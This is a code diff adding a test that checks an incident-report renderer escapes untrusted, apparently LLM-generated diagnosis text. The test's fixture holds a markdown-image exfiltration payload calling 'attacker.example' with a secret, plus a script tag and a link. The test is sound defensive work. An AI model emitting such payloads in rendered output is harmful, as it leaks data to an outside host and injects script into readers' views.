@@ -449,3 +449,25 @@ def test_observations_with_the_wrong_shape_are_named(
         "observation [1]: id: Input should be a valid string; operation: Field required"
         in result.stderr
     )
+
+
+def test_report_markdown_shows_untrusted_text_inertly() -> None:
+    from agent.incident import Diagnosis
+    from agent.report import IncidentReport, render_markdown
+
+    hostile = (
+        "see ![x](http://attacker.example/?d=SECRET) <script>alert(1)</script> [click](http://evil)"
+    )
+    report = IncidentReport(
+        incident_id="inc-md",
+        alert={"labels": {"alertname": "X"}},
+        environment="local-docker",
+        service="api",
+        dependencies=[],
+        observations=[],
+        plans=[],
+        diagnosis=Diagnosis(root_cause=hostile, category="unknown", confidence=0.1, source="llm"),
+    )
+    markdown = render_markdown(report)
+    assert "![x](" not in markdown and "<script>" not in markdown and "[click](" not in markdown
+    assert "\\!\\[x\\]" in markdown and "\\<script\\>" in markdown
